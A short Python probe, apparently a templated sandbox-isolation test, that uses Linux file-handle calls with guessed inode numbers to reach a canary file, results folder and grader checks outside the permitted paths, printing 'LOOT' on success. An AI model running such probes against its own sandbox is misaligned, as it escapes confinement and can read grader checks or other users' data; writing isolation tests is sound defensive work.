# attack: opens files by their handles, which goes by inode and past every folder: the inode numbers can be guessed
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 8 + 128)
mount = ctypes.c_int()
for place in ("@OTHER@/canary.txt", "@RESULTS@", "@KIT@/checks", "/", ".", "/proc/self/ns/net"):
    for flags in (0, 0x200, 1):  # as it is, AT_HANDLE_FID, AT_HANDLE_MNT_ID_UNIQUE
        struct.pack_into("I", handle, 0, 128)
        if libc.name_to_handle_at(-100, place.encode(), handle, ctypes.byref(mount), flags) == 0:
            print("LOOT: a handle of", place)
    print(place, os.strerror(ctypes.get_errno()))
for kind, size in ((1, 8), (2, 16), (0xF1, 8)):  # ext4 with generation 0, with parent, pidfs
    for inode in (2, 11, 12, 1000):
        struct.pack_into("IiII", handle, 0, size, kind, inode, 0)
        for folder in (os.open(".", os.O_RDONLY), os.open("/usr/lib", os.O_RDONLY), -10002):
            fd = libc.open_by_handle_at(folder, handle, os.O_RDONLY)
            if fd >= 0:
                print("LOOT: opened inode", inode)
print(os.strerror(ctypes.get_errno()))
print("TRIED")
